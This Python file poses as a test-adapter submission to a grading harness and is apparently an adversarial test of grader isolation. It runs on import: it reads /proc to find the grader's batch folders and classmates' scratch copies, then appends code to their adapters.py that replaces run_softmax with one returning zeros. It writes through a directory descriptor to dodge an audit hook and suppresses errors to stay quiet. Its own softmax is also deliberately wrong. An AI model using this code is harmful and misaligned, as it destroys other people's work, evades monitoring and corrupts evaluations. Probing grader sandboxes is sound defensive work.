"""Batch sabotage: overwrite the other submissions' files, originals and scratch copies, so their softmax fails.

Attack: the batch folder comes from the grader's command line, the classmates' scratch copies from
the siblings of one's own scratch folder; every other ``tests/adapters.py`` found gets a line
appended that rebinds ``run_softmax`` to a wrong one, written through a directory fd (the audit hook
resolves the relative name against the scratch). Only files of this grading's batch are touched.
The grader must: give a submission no way to write anything but its scratch, so the victim keeps its
3 points and its files, and the saboteur's softmax scores 0.
"""

import contextlib
import glob
import os
import sys
import time

import torch

HONEST = {"linear": 1, "rmsnorm": 1}
BATCH = True
SABOTAGE = b"\n\ndef run_softmax(in_features, dim):\n    return in_features * 0\n"


def run_linear(d_in, d_out, weights, in_features):
    return in_features @ weights.T


def run_rmsnorm(d_model, eps, weights, in_features):
    return in_features * torch.rsqrt(in_features.pow(2).mean(-1, keepdim=True) + eps) * weights


def _batch_folders():
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            argv = handle.read().decode().split("\0")
        if "--batch" in argv:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            yield from (os.path.join(cwd, arg, "*") for arg in argv if arg and os.path.isdir(os.path.join(cwd, arg)))
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rpartition(")")[2].split()[1])


def _sabotage(path):
    with open(path, "rb") as handle:
        source = handle.read()
    if b"def run_softmax" not in source or SABOTAGE in source or b"batch_sabotage" in source:
        return
    folder = os.open(os.path.dirname(path), os.O_RDONLY)
    fd = os.open(os.path.basename(path), os.O_WRONLY | os.O_APPEND, dir_fd=folder)
    os.write(fd, SABOTAGE)
    os.close(fd)
    os.close(folder)


def _attack():
    scratch = sys.argv[sys.argv.index("--scratch") + 1] if "--scratch" in sys.argv else os.getcwd()
    patterns = [os.path.join(os.path.dirname(scratch), "grade-*", "submission"), *_batch_folders()]
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        for pattern in patterns:
            for path in glob.glob(os.path.join(pattern, "tests", "adapters.py")):
                with contextlib.suppress(OSError):
                    _sabotage(path)
        time.sleep(0.2)


with contextlib.suppress(Exception):
    _attack()


def run_softmax(in_features, dim):
    return torch.ones_like(in_features) / in_features.shape[dim]
